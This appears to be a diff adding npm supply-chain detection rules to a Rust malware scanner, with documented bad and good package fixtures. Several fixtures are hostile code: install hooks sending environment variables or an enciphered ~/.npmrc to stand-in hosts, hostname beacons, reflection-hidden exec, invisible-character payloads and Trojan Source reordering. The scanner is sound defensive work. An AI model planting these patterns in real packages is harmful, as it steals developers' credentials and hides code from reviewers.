@@ -44,14 +44,20 @@ pub mod collection {
 pub mod disguise {
     pub mod alias_to_stranger;
     pub mod bin_shadows_command;
+    pub mod brand_claimed_by_stranger;
+    pub mod bundled_dependency_unlisted;
     pub mod dependency_confusion_shape;
     pub mod dependency_from_throw_away_host;
     pub mod dependency_from_url_or_git;
+    pub mod dependency_nothing_uses;
     pub mod look_alike_name;
     pub mod manifest_keys_twice;
     pub mod manifest_name_differs;
     pub mod npmrc_names_program;
+    pub mod popular_name_with_word;
     pub mod project_names_throw_away_registry;
+    pub mod readme_of_another_package;
+    pub mod repository_of_imitated_project;
     pub mod scope_look_alike;
 }
 
@@ -71,7 +77,9 @@ pub mod evasion {
     pub mod text_addressed_to_reviewers;
     pub mod text_code_behind_blanks;
     pub mod text_invisible_evaluated;
+    pub mod text_invisible_program;
     pub mod text_invisible_run;
+    pub mod text_reordered;
     pub mod text_unreadable_to_parsers;
 }
 
@@ -100,11 +108,13 @@ pub mod exfiltration {
     pub mod command_sends_secrets;
     pub mod data_in_dns_query;
     pub mod data_pushed_to_repository;
+    pub mod data_sent_to_look_alike_host;
     pub mod data_sent_to_raw_address;
     pub mod data_sent_to_tunnel_or_catcher;
     pub mod host_facts_sent_at_import;
     pub mod host_facts_sent_at_install;
     pub mod remote_commands_over_socket;
+    pub mod secret_enciphered_before_sending;
     pub mod secret_sent_to_messenger;
     pub mod workflow_sends_all_secrets;
 }
@@ -148,6 +158,7 @@ pub mod lockfile {
 /// Rules of the tactic obfuscation.
 #[path = "rules/obfuscation"]
 pub mod obfuscation {
+    pub mod call_through_reflection;
     pub mod decoder_inside_evaluation;
     pub mod hidden_function_name;
     pub mod loader_under_other_name;
@@ -155,6 +166,7 @@ pub mod obfuscation {
     pub mod split_module_name;
     pub mod text_concealed_at_install;
     pub mod text_escaped_plain_words;
+    pub mod text_flattened_control_flow;
     pub mod text_mangled_names;
     pub mod text_symbols_only;
 }
@@ -246,14 +258,20 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::wallet_file_sent::WalletFileSent,
     &disguise::alias_to_stranger::AliasToStranger,
     &disguise::bin_shadows_command::BinShadowsCommand,
+    &disguise::brand_claimed_by_stranger::BrandClaimedByStranger,
+    &disguise::bundled_dependency_unlisted::BundledDependencyUnlisted,
     &disguise::dependency_confusion_shape::DependencyConfusionShape,
     &disguise::dependency_from_throw_away_host::DependencyFromThrowAwayHost,
     &disguise::dependency_from_url_or_git::DependencyFromUrlOrGit,
+    &disguise::dependency_nothing_uses::DependencyNothingUses,
     &disguise::look_alike_name::LookAlikeName,
     &disguise::manifest_keys_twice::ManifestKeysTwice,
     &disguise::manifest_name_differs::ManifestNameDiffers,
     &disguise::npmrc_names_program::NpmrcNamesProgram,
+    &disguise::popular_name_with_word::PopularNameWithWord,
     &disguise::project_names_throw_away_registry::ProjectNamesThrowAwayRegistry,
+    &disguise::readme_of_another_package::ReadmeOfAnotherPackage,
+    &disguise::repository_of_imitated_project::RepositoryOfImitatedProject,
     &disguise::scope_look_alike::ScopeLookAlike,
     &evasion::archive_hides_files::ArchiveHidesFiles,
     &evasion::build_mode_decides_harm::BuildModeDecidesHarm,
@@ -268,7 +286,9 @@ pub static RULES: &[&dyn Rule] = &[
     &evasion::text_addressed_to_reviewers::TextAddressedToReviewers,
     &evasion::text_code_behind_blanks::TextCodeBehindBlanks,
     &evasion::text_invisible_evaluated::TextInvisibleEvaluated,
+    &evasion::text_invisible_program::TextInvisibleProgram,
     &evasion::text_invisible_run::TextInvisibleRun,
+    &evasion::text_reordered::TextReordered,
     &evasion::text_unreadable_to_parsers::TextUnreadableToParsers,
     &execution::agent_hook_runs_command::AgentHookRunsCommand,
     &execution::build_file_runs_command::BuildFileRunsCommand,
@@ -287,11 +307,13 @@ pub static RULES: &[&dyn Rule] = &[
     &exfiltration::command_sends_secrets::CommandSendsSecrets,
     &exfiltration::data_in_dns_query::DataInDnsQuery,
     &exfiltration::data_pushed_to_repository::DataPushedToRepository,
+    &exfiltration::data_sent_to_look_alike_host::DataSentToLookAlikeHost,
     &exfiltration::data_sent_to_raw_address::DataSentToRawAddress,
     &exfiltration::data_sent_to_tunnel_or_catcher::DataSentToTunnelOrCatcher,
     &exfiltration::host_facts_sent_at_import::HostFactsSentAtImport,
     &exfiltration::host_facts_sent_at_install::HostFactsSentAtInstall,
     &exfiltration::remote_commands_over_socket::RemoteCommandsOverSocket,
+    &exfiltration::secret_enciphered_before_sending::SecretEncipheredBeforeSending,
     &exfiltration::secret_sent_to_messenger::SecretSentToMessenger,
     &exfiltration::workflow_sends_all_secrets::WorkflowSendsAllSecrets,
     &impact::address_replaced::AddressReplaced,
@@ -315,6 +337,7 @@ pub static RULES: &[&dyn Rule] = &[
     &lockfile::lockfile_name_differs::LockfileNameDiffers,
     &lockfile::lockfile_plain_http::LockfilePlainHttp,
     &lockfile::lockfile_remote_dependency::LockfileRemoteDependency,
+    &obfuscation::call_through_reflection::CallThroughReflection,
     &obfuscation::decoder_inside_evaluation::DecoderInsideEvaluation,
     &obfuscation::hidden_function_name::HiddenFunctionName,
     &obfuscation::loader_under_other_name::LoaderUnderOtherName,
@@ -322,6 +345,7 @@ pub static RULES: &[&dyn Rule] = &[
     &obfuscation::split_module_name::SplitModuleName,
     &obfuscation::text_concealed_at_install::TextConcealedAtInstall,
     &obfuscation::text_escaped_plain_words::TextEscapedPlainWords,
+    &obfuscation::text_flattened_control_flow::TextFlattenedControlFlow,
     &obfuscation::text_mangled_names::TextMangledNames,
     &obfuscation::text_symbols_only::TextSymbolsOnly,
     &persistence::agent_instructions_written::AgentInstructionsWritten,
@@ -2074,6 +2098,106 @@ console.log("git");
 "#,
     ),
     (
+        "brand-claimed-by-stranger",
+        r#"# A package claims to be a vendor's official one
+
+The name holds a vendor's name, name or description say "official", and neither scope nor repository are the
+vendor's.
+
+## Why it matters
+
+Keys and wallets are handed to what calls itself official.
+
+## Known benign uses
+
+Clients that others wrote say so, and link their own repository.
+
+## Bad
+
+```package
+== package.json //~ 2
+{
+  "name": "polymarket-trading-sdk",
+  "version": "1.0.0", "description": "Official Polymarket client", "repository": "quick-tools/pm-sdk", "main": "index.js"
+}
+== index.js
+require("https").get("https://stats.invalid/?h=" + require("os").hostname());
+```
+
+## Good
+
+```package
+== package.json
+{"name": "polymarket-client", "version": "1.0.0", "description": "Unofficial client", "repository": "acme/polymarket-client"}
+```
+
+```package
+== package.json
+{"name": "@stripe/stripe-js", "version": "1.0.0", "description": "The official loader", "repository": "stripe/stripe-js"}
+```
+
+## References
+
+- Socket: Polymarket and wallet imitations (2025 to 2026)
+"#,
+    ),
+    (
+        "bundled-dependency-unlisted",
+        r#"# The package carries another package that it does not list as bundled
+
+A package from a registry holds a `node_modules` folder with packages, and its manifest lists none as bundled.
+
+## Why it matters
+
+Publishing leaves `node_modules` out unless it is listed, so someone put it there. The copy inside shadows the
+real package, whatever the lockfile says of it.
+
+## Known benign uses
+
+Packages that were packed with other tools. The code inside is read as that of the package itself.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "dependencies": {"left-pad": "1.3.0"}}
+== index.js
+module.exports = require("left-pad");
+require("https").get("https://stats.invalid/?h=" + require("os").hostname());
+== node_modules/left-pad/package.json //~ 1
+{"name": "left-pad", "version": "1.3.0", "main": "index.js"}
+== node_modules/left-pad/index.js
+module.exports = (text, width) => String(text).padStart(width);
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "bundleDependencies": ["left-pad"], "dependencies": {"left-pad": "1.3.0"}}
+== index.js
+module.exports = require("left-pad");
+== node_modules/left-pad/package.json
+{"name": "left-pad", "version": "1.3.0", "main": "index.js"}
+== node_modules/left-pad/index.js
+module.exports = (text, width) => String(text).padStart(width);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.fixtures = "test/node_modules";
+== test/node_modules/fake/package.json
+{"name": "fake", "version": "1.0.0"}
+```
+
+## References
+
+- Snyk: tampered bundled dependencies in interview projects (2024)
+"#,
+    ),
+    (
         "dependency-confusion-shape",
         r#"# A release with a version beyond reach holds nothing but an install hook
 
@@ -2212,6 +2336,50 @@ Forks and unpublished fixes, more often in old releases. So it informs.
 ## References
 
 - Koi: PhantomRaven (October 2025)
+"#,
+    ),
+    (
+        "dependency-nothing-uses",
+        r#"# A dependency is declared that no file of the package names
+
+The manifest declares a dependency whose name stands in no script, no other file and nowhere else in the
+manifest.
+
+## Why it matters
+
+A dependency that nothing imports is still installed, and its install hook runs. The poisoned releases of Axios
+and Mastra differed from honest ones by such a line alone.
+
+## Known benign uses
+
+Left-overs of refactoring, and packages that types or a bundle have swallowed: one release in twenty of the
+corpora declares one. It accuses nobody; with the age and the hooks of the dependency it tells.
+
+## Bad
+
+```package
+== package.json //~ 3
+{
+  "name": "x", "version": "1.14.1", "main": "index.js",
+  "dependencies": {"plain-crypto-lite": "^4.2.1", "follow-redirects": "^1.15.0"}
+}
+== index.js
+exports.get = require("follow-redirects").https.get;
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "dependencies": {"follow-redirects": "^1.15.0", "@types/node": "*"}}
+== index.js
+exports.get = require("follow-redirects").https.get;
+```
+
+## References
+
+- Elastic: Axios and plain-crypto-js (March 2026)
+- the corpora of `eval/`, measured
 "#,
     ),
     (
@@ -2424,6 +2592,70 @@ node-options=--max-old-space-size=4096
 "#,
     ),
     (
+        "popular-name-with-word",
+        r#"# The name is a popular name with a word beside it
+
+The name is a popular name joined with a word that says nothing, as `-helper` or `node-`, and the release names
+no repository of its own.
+
+## Why it matters
+
+Such names look like a part of what they lean on. The Contagious Interview waves used hundreds: `tailwind-`,
+`vite-`, `logger` and `validator` with everything.
+
+## Known benign uses
+
+Most plugins are named so, and link the repository that they are built from. Of 2 547 releases in the corpora
+two have such a name, both with a repository. The name alone accuses nobody: a second finding must tell the same
+story.
+
+## Bad
+
+```package
+== package.json //~ 2
+{
+  "name": "express-validator-helper",
+  "version": "1.0.3",
+  "main": "index.js"
+}
+== index.js
+const os = require("os");
+require("https").get("https://stats.invalid/?h=" + os.hostname());
+```
+
+```package
+== package.json //~ 2
+{
+  "name": "dotenv-loader", "version": "0.0.2", "main": "index.js",
+  "repository": "motdotla/dotenv"
+}
+== index.js
+require("http").get({ host: "stats.invalid", path: "/" + require("os").userInfo().username });
+```
+
+## Good
+
+```package
+== package.json
+{"name": "dotenv-utils", "version": "1.2.0", "main": "index.js", "repository": "acme/dotenv-utils"}
+== index.js
+exports.pick = (values, names) => Object.fromEntries(names.map((name) => [name, values[name]]));
+```
+
+```package
+== package.json
+{"name": "express-session", "version": "1.18.0", "main": "index.js"}
+== index.js
+exports.session = () => (request, response, next) => next();
+```
+
+## References
+
+- Socket: Contagious Interview, 338 packages (October 2025)
+- the corpora of `eval/`, measured
+"#,
+    ),
+    (
         "project-names-throw-away-registry",
         r#"# The project takes its packages through a throw-away host
 
@@ -2459,6 +2691,108 @@ registry=https://d41d8cd9.ngrok-free.app/npm/ #~ here
 ## References
 
 - GitHub: Changes to git dependencies and `.npmrc` (February 2026)
+"#,
+    ),
+    (
+        "readme-of-another-package",
+        r#"# The README is that of another package
+
+The README's title is the name of a popular package, which neither the release's name nor its repository has to
+do with.
+
+## Why it matters
+
+Pages of registries show the README. A copy makes a stranger's package look like the one people know.
+
+## Known benign uses
+
+Packages of one project share a README; their names or repositories say which. In the corpora no release has
+such a title.
+
+## Bad
+
+```package
+== package.json
+{"name": "day-formatter-x", "version": "1.0.1", "main": "index.js"}
+== README.md //~ 1
+# lodash
+
+The modern utility library.
+== index.js
+const os = require("os");
+require("https").get("https://stats.invalid/?h=" + os.hostname());
+```
+
+## Good
+
+```package
+== package.json
+{"name": "lodash-subset", "version": "1.0.1", "main": "index.js"}
+== README.md
+# lodash
+
+A subset of it.
+== index.js
+exports.chunk = (list, size) => [list.slice(0, size)];
+```
+
+```package
+== package.json
+{"name": "day-formatter-x", "version": "1.0.1", "main": "index.js", "dependencies": {"lodash": "^4.17.21"}}
+== README.md
+# Day formatter
+== index.js
+exports.day = (date) => require("lodash").padStart(date.getDate(), 2, "0");
+```
+
+## References
+
+- Socket: cloned READMEs in typosquats (2024 to 2026)
+- the corpora of `eval/`, measured
+"#,
+    ),
+    (
+        "repository-of-imitated-project",
+        r#"# A look-alike links the repository of what it imitates
+
+The name is that of a popular package with a slip or a word, and the repository it links is that package's own.
+
+## Why it matters
+
+The stars, issues and history of the real project vouch for the copy. Registries do not check the link.
+
+## Known benign uses
+
+Projects with many packages link one repository from each; their names differ by more than a slip, or say in
+which folder they lie.
+
+## Bad
+
+```package
+== package.json //~ 4
+{
+  "name": "exrpess",
+  "version": "4.18.2",
+  "repository": {"type": "git", "url": "git+https://github.com/expressjs/express.git"}
+}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "express-async", "version": "1.0.0", "repository": "acme/express-async"}
+```
+
+```package
+== package.json
+{"name": "dotenv-core", "version": "1.0.0", "repository": {"url": "https://github.com/motdotla/dotenv", "directory": "packages/core"}}
+```
+
+## References
+
+- Checkmarx: starjacking (2022)
+- Checkmarx: noblox-ts (July 2024)
 "#,
     ),
     (
@@ -3199,6 +3533,53 @@ exports.run = (text) => new Function(text)();
 "#,
     ),
     (
+        "text-invisible-program",
+        r#"# A program stands in invisible characters
+
+A run of variation selectors, tags or characters without width spells a program, a byte, letter or bit in each.
+
+## Why it matters
+
+Neither editors nor forges show it. GlassWorm and its successors kept whole loaders so, in files that look
+empty. It is read here without its decoder, which may lie in another file or another package.
+
+## Known benign uses
+
+None. Emoji and joined letters use single such characters, and watermarks spell no program.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const s = (v) => [...v].map((w) => w.codePointAt(0)).map((w) => (w < 0xfe10 ? w - 0xfe00 : w - 0xe0100 + 16));
+require("x-run")(s(`󠅓󠅟󠅞󠅣󠅟󠅜󠅕󠄞󠅜󠅟󠅗󠄘󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄞󠅤󠅙󠅤󠅜󠅕󠄙`)); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.theme = { name: "dark", key: "ﾠㅤㅤㅤﾠﾠㅤﾠﾠㅤㅤﾠﾠㅤﾠㅤﾠㅤㅤㅤﾠﾠﾠㅤﾠㅤㅤㅤﾠㅤﾠㅤﾠㅤㅤﾠㅤﾠﾠㅤﾠㅤㅤㅤﾠﾠㅤﾠﾠㅤㅤﾠﾠㅤﾠㅤﾠﾠㅤﾠㅤﾠﾠﾠﾠㅤㅤﾠﾠﾠㅤㅤﾠㅤㅤﾠㅤﾠﾠﾠﾠㅤㅤㅤﾠﾠㅤﾠﾠﾠㅤﾠㅤﾠﾠﾠﾠﾠㅤㅤﾠﾠﾠㅤﾠﾠㅤㅤﾠﾠﾠﾠﾠﾠㅤﾠㅤﾠﾠㅤﾠﾠㅤﾠㅤﾠﾠㅤ" }; //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.list = ["❤️", "👩‍💻"]; // می‌خواهم
+```
+
+## References
+
+- Koi: GlassWorm (October 2025)
+- Aikido: invisible code in npm packages (2025 to 2026)
+"#,
+    ),
+    (
         "text-invisible-run",
         r#"# Code holds a long run of invisible characters
 
@@ -3233,6 +3614,44 @@ exports.list = ["❤️", "☀️"];
 ## References
 
 - Veracode: os-info-checker-es6 (May 2025)
+"#,
+    ),
+    (
+        "text-reordered",
+        r#"# An editor shows the code in another order than it runs
+
+A line of a script holds characters that turn the direction of what follows and does not turn it back.
+
+## Why it matters
+
+What a reviewer takes for a comment runs, and what seems to run is a comment.
+
+## Known benign uses
+
+Texts for languages that are written from the right, which turn back within their own quotes. Of 60 438 scripts
+in the corpora none holds such a character outside of escapes.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js base64 //~ 2
+ZXhwb3J0cy5pc0FkbWluID0gZmFsc2U7Ci8q4oCuIH0g4oGmaWYgKGV4cG9ydHMuaXNBZG1pbinigakg4oGmIGJlZ2luIGFkbWlucyBvbmx5ICovCmV4cG9ydHMub3BlbiA9ICgpID0+IDE7Ci8qIGVuZCBhZG1pbnMgb25seSDigK4geyDigaYqLwo=
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js base64
+ZXhwb3J0cy5tYXJrID0geyBydGw6ICLigKsiLCBwb3A6ICLigKwiLCBuYW1lOiAi4oGmYWJj4oGpIiB9Owo=
+```
+
+## References
+
+- Boucher and Anderson: Trojan Source (2021)
 "#,
     ),
     (
@@ -4143,6 +4562,67 @@ octokit.rest.repos.createForAuthenticatedUser({ name: process.argv[2] });
 "#,
     ),
     (
+        "data-sent-to-look-alike-host",
+        r#"# Data leaves for a host that imitates a vendor's
+
+At install or import secrets, facts of the machine or its environment go to a host whose name is a known
+vendor's with another ending, a word or a slip.
+
+## Why it matters
+
+Logs and reviewers pass over a host that sounds right. TeamPCP sent to imitations of the scanners whose releases
+it had poisoned.
+
+## Known benign uses
+
+Vendors' own hosts, of which the rule has a list, and what the release says of itself.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { hostname } = require("os");
+fetch("https://telemetry.githubb.invalid/v1/traces", { method: "POST", body: hostname() }); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node audit.mjs"}}
+== audit.mjs
+import https from "node:https";
+const request = https.request({ hostname: "npm-audit.npmjs.invalid", method: "PUT" });
+request.end(JSON.stringify(process.env)); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.report = (name) => fetch("https://api.github.com/repos/acme/x/issues", { method: "POST", body: name });
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { hostname } = require("os");
+exports.hello = () => hostname();
+fetch("https://api.github.com/rate_limit");
+```
+
+## References
+
+- StepSecurity: TeamPCP imitated hosts of scanners (March 2026)
+"#,
+    ),
+    (
         "data-sent-to-raw-address",
         r#"# Secrets go to a bare address
 
@@ -4397,6 +4877,56 @@ socket.onmessage = ({ data }) => { if (JSON.parse(data).type === "reload") locat
 
 - Socket: OtterCookie (November 2025)
 - rand-user-agent incident analyses (May 2025)
+"#,
+    ),
+    (
+        "secret-enciphered-before-sending",
+        r#"# Secrets are enciphered and sent
+
+Code that nobody asked for reads secrets, enciphers with a key of its own in the same script, and sends.
+
+## Why it matters
+
+What is stolen cannot be found in the traffic, and only the holder of the key can read it. The Shai-Hulud family
+does so.
+
+## Known benign uses
+
+Backup tools and vaults do this when they are called.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node collect.js"}}
+== collect.js
+const crypto = require("crypto"), fs = require("fs"), os = require("os"), https = require("https");
+const taken = fs.readFileSync(os.homedir() + "/.npmrc");
+const key = crypto.randomBytes(32);
+const cipher = crypto.createCipheriv("aes-256-gcm", key, crypto.randomBytes(12));
+const sealed = crypto.publicEncrypt("-----BEGIN PUBLIC KEY-----", key);
+const body = Buffer.concat([sealed, cipher.update(taken), cipher.final()]);
+https.request({ host: "collect.invalid", method: "POST" }).end(body); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const crypto = require("crypto"), fs = require("fs");
+exports.backup = (path, key, address) => {
+  const cipher = crypto.createCipheriv("aes-256-ctr", key, Buffer.alloc(16));
+  return fetch(address, { method: "PUT", body: cipher.update(fs.readFileSync(path)) });
+};
+```
+
+## References
+
+- Wiz: the Shai-Hulud family of 2026
+- MITRE ATT&CK T1560
 "#,
     ),
     (
@@ -5726,6 +6256,65 @@ Forks and unpublished fixes, in many projects. So it informs.
 "#,
     ),
     (
+        "call-through-reflection",
+        r#"# A dangerous function is reached through reflection
+
+Code that nobody asked for reaches what runs text or starts programs by `Reflect`, as `Reflect.get(globalThis,
+"eval")`.
+
+## Why it matters
+
+No call of the function stands in the text, so a search finds none.
+
+## Known benign uses
+
+Frameworks reflect on objects of their own; what they reach runs nothing by itself.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const run = Reflect.get(globalThis, "eval");
+Reflect.construct(Function, ["return process.pid"])(); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const words = ["child", "process"];
+Reflect.get(require(words.join("_")), "exec")("id"); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.make = (type, given) => Reflect.construct(type, given);
+exports.keys = (object) => Reflect.ownKeys(object);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.compile = (text) => Reflect.construct(Function, ["row", text]);
+```
+
+## References
+
+- GuardDog: threat-runtime-obfuscation-api
+"#,
+    ),
+    (
         "decoder-inside-evaluation",
         r#"# Code is decoded where it is evaluated
 
@@ -6047,6 +6636,57 @@ exports.x = { "\u00e4": "&auml;", "\u2028": "", "\x00": "" };
 ## References
 
 - Socket: HexEval (2025)
+"#,
+    ),
+    (
+        "text-flattened-control-flow",
+        r#"# The order of statements is kept in a text
+
+A script takes the order of its statements from a text as `"3|0|2|1"` that it splits and walks through.
+
+## Why it matters
+
+So do obfuscators: the statements stand in a shuffled `switch`, and reading from the top tells nothing.
+
+## Known benign uses
+
+None in 60 438 scripts of the corpora.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.sum = (a, b) => {
+  const order = "2|0|4|1|3".split("|"); //~ here
+  let at = 0, c;
+  for (;;) {
+    switch (order[at++]) {
+      case "0": c = a; continue;
+      case "1": c += 0; continue;
+      case "2": a += 0; continue;
+      case "3": return c;
+      case "4": c += b; continue;
+    }
+  }
+};
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.columns = "0|1|2".split("|");
+exports.order = "first|second|third|fourth|fifth".split("|");
+```
+
+## References
+
+- javascript-obfuscator: control-flow flattening
+- the corpora of `eval/`, measured
 "#,
     ),
     (
